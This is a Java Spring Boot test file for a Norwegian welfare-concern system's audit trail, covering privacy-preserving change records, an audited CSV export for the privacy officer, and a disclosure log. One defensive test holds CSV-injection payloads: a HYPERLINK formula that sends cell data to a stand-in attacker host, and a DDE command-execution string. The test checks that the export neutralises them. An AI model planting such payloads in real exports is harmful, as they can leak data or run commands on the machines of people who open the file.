package no.samvirke.audit.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.httpBasic;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.UUID;
import no.samvirke.identity.Users;
import no.samvirke.audit.AuditTrail;
import no.samvirke.platform.CaseId;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.autoconfigure.web.servlet.AutoConfigureMockMvc;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.http.MediaType;
import org.springframework.security.core.userdetails.UserDetailsService;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.transaction.support.TransactionTemplate;

/** Changes in the trail, the privacy officer's CSV export (itself audited) and the disclosure log. */
@SpringBootTest
@AutoConfigureMockMvc
class AuditExportAndDisclosureTest {

    private static final String NAME = "Sindre Kvalbein";
    private static final String NATIONAL_ID = "24081150091";
    private static final String DESCRIPTION = "Sindre Kvalbein har delt hatefulle ytringer.";

    @Autowired MockMvc mvc;
    @Autowired ObjectMapper json;
    @Autowired UserDetailsService userDetails;
    @Autowired AuditTrail trail;
    @Autowired Users users;
    @Autowired TransactionTemplate transactions;

    @Test
    void registrationIsAChangeThatSaysWhichItemsWereStoredButNotWhatTheySay() throws Exception {
        String id = register(false);
        JsonNode entries = audit("/api/v1/audit?caseId=" + id);
        assertThat(entries.get("totalElements").asInt()).isEqualTo(1);
        JsonNode change = entries.at("/entries/0");
        assertThat(change.get("action").asText()).isEqualTo("CHANGE");
        assertThat(change.get("username").asText()).isEqualTo("skole");
        assertThat(change.get("agency").asText()).isEqualTo("MUNICIPALITY");
        assertThat(change.get("items").asText()).isEqualTo("subject;description");
        assertThat(change.get("beforeValue").isNull()).isTrue();
        assertThat(change.get("afterValue").asText())
                .isEqualTo("subject=named;description=" + DESCRIPTION.length() + " chars");
        assertThat(change.toString()).doesNotContain("Sindre", "Kvalbein", NATIONAL_ID, "2011-08-24", "hatefulle");
    }

    @Test
    void aChangeIsRecordedOnlyWhenItsTransactionCommits() throws Exception {
        UUID caseId = UUID.fromString(register(false));
        var kjerne = users.find("kjerne").orElseThrow();
        try {
            transactions.executeWithoutResult(tx -> {
                trail.recordChange(CaseId.of(caseId), kjerne, "description", "description=10 chars", "description=12 chars",
                        "test", "test:rollback");
                throw new IllegalStateException("rolled back");
            });
        } catch (IllegalStateException expected) {
            // the change did not happen, so it is not in the trail
        }
        transactions.executeWithoutResult(tx -> trail.recordChange(CaseId.of(caseId), kjerne, "description",
                "description=10 chars", "description=12 chars", "test", "test:commit"));
        JsonNode entries = audit("/api/v1/audit?caseId=" + caseId);
        assertThat(entries.findValuesAsText("purpose")).containsExactly("test:commit", "intake:register");
        assertThat(audit("/api/v1/audit/verify").get("intact").asBoolean()).isTrue();
    }

    @Test
    void theExportIsCsvOfTheFilteredTrailAndIsItselfAudited() throws Exception {
        String id = register(false);
        String csv = mvc.perform(get("/api/v1/audit/export").param("caseId", id).with(httpBasic("personvern", "demo")))
                .andExpect(status().isOk())
                .andExpect(content().contentTypeCompatibleWith("text/csv"))
                .andExpect(header().string("Content-Disposition", "attachment; filename=\"revisjonslogg.csv\""))
                .andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
        String[] lines = csv.split("\r\n");
        assertThat(lines).hasSize(2);
        assertThat(lines[0]).startsWith("\"id\",\"occurredAt\",\"username\",\"agency\",\"caseId\",\"action\",\"items\"");
        assertThat(lines[1]).contains("\"skole\"", "\"" + id + "\"", "\"CHANGE\"", "\"intake:register\"");
        JsonNode export = audit("/api/v1/audit?caseId=" + id).at("/entries/0");
        assertThat(export.get("action").asText()).isEqualTo("EXPORT");
        assertThat(export.get("username").asText()).isEqualTo("personvern");
        assertThat(export.get("items").asText()).isEqualTo("entries=1");
        assertThat(export.get("purpose").asText()).startsWith("export:csv caseId=" + id);
        assertThat(audit("/api/v1/audit/verify").get("intact").asBoolean()).isTrue();
    }

    @Test
    void thePageLinksToTheExportAndShowsTheCasesDisclosureLog() throws Exception {
        String id = register(true);
        mvc.perform(get("/saker/" + id).with(page("kjerne"))).andExpect(status().isOk());
        mvc.perform(get("/api/v1/concerns/" + id).with(httpBasic("kjerne", "demo"))).andExpect(status().isOk());
        String html = mvc.perform(get("/personvern/revisjonslogg").param("caseId", id).with(page("personvern")))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
        assertThat(html).contains("id=\"disclosure-log\"", "Utleveringslogg for saken",
                "/personvern/revisjonslogg/eksport?caseId=" + id, "subject=FULL;description=FULL", "page:case");
        mvc.perform(get("/personvern/revisjonslogg/eksport").param("caseId", id).with(page("personvern")))
                .andExpect(status().isOk()).andExpect(content().contentTypeCompatibleWith("text/csv"));
        mvc.perform(get("/personvern/revisjonslogg/eksport").param("caseId", "nei").with(page("personvern")))
                .andExpect(status().isSeeOther());
    }

    @Test
    void theDisclosureLogListsIdentifiedDisclosuresOnly() throws Exception {
        String id = register(true);
        String anonymised = register(false);
        mvc.perform(get("/api/v1/concerns/" + id).with(httpBasic("kjerne", "demo"))).andExpect(status().isOk());
        mvc.perform(get("/api/v1/concerns/" + anonymised).with(httpBasic("politi", "demo"))).andExpect(status().isOk());
        JsonNode disclosures = audit("/api/v1/audit/disclosures?caseId=" + id);
        assertThat(disclosures).hasSize(1);
        assertThat(disclosures.at("/0/username").asText()).isEqualTo("kjerne");
        assertThat(disclosures.at("/0/agency").asText()).isEqualTo("MUNICIPALITY");
        assertThat(disclosures.at("/0/items").asText()).isEqualTo("subject=FULL;description=FULL");
        assertThat(disclosures.at("/0/legalBasis").asText()).contains("fvl. § 13 b nr. 7");
        assertThat(disclosures.at("/0/purpose").asText()).isEqualTo("api:concern");
        assertThat(audit("/api/v1/audit/disclosures?caseId=" + anonymised)).isEmpty();
        mvc.perform(get("/api/v1/audit/disclosures").with(httpBasic("personvern", "demo")))
                .andExpect(status().isBadRequest()).andExpect(jsonPath("$.errors[0].field").value("caseId"));
        mvc.perform(get("/api/v1/audit/disclosures?caseId=" + id).with(httpBasic("kjerne", "demo")))
                .andExpect(status().isForbidden());
    }

    @Test
    void theExportNeutralisesFormulaCellsAndQuotesCommasQuotesAndNewlines() throws Exception {
        UUID caseId = UUID.fromString(register(false));
        var kjerne = users.find("kjerne").orElseThrow();
        String hyperlink = "=HYPERLINK(\"https://angriper.example/?d=\"&A1,\"Klikk\")";
        transactions.executeWithoutResult(tx -> trail.recordChange(CaseId.of(caseId), kjerne, hyperlink,
                "a, b \"c\"\nd", "\tcmd", "+1", "@SUM(1+1)*cmd|' /C calc'!A0"));
        String csv = mvc.perform(get("/api/v1/audit/export").param("caseId", caseId.toString())
                        .with(httpBasic("personvern", "demo")))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
        List<CSVRecord> records = CSVFormat.RFC4180.parse(new StringReader(csv)).getRecords();
        assertThat(records).hasSize(3).allSatisfy(r -> assertThat(r.size()).isEqualTo(14));
        CSVRecord change = records.get(2);
        assertThat(change.get(6)).isEqualTo("'" + hyperlink);                 // items
        assertThat(change.get(7)).isEqualTo("'+1");                           // legal basis
        assertThat(change.get(8)).isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0");  // purpose
        assertThat(change.get(10)).isEqualTo("a, b \"c\"\nd");                 // before, intact
        assertThat(change.get(11)).isEqualTo("'\tcmd");                       // after
        assertThat(csv).doesNotContain(",=", ",@", ",+", ",\t", "\"=", "\"@", "\"+");
    }

    private JsonNode audit(String path) throws Exception {
        return json.readTree(mvc.perform(get(path).with(httpBasic("personvern", "demo"))).andExpect(status().isOk())
                .andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8));
    }

    private org.springframework.test.web.servlet.request.RequestPostProcessor page(String username) {
        return user(userDetails.loadUserByUsername(username));
    }

    private String register(boolean acuteDanger) throws Exception {
        String body = """
                {"subject": {"anonymous": false, "name": "%s", "nationalId": "%s"}, "category": "HATE_CRIME",
                 "description": "%s", "subjectInformed": false, "consentToShare": false, "acuteDanger": %s}"""
                .formatted(NAME, NATIONAL_ID, DESCRIPTION, acuteDanger);
        return json.readTree(mvc.perform(post("/api/v1/concerns").with(httpBasic("skole", "demo"))
                        .contentType(MediaType.APPLICATION_JSON).content(body))
                .andExpect(status().isCreated()).andReturn().getResponse().getContentAsString()).get("id").asText();
    }
}
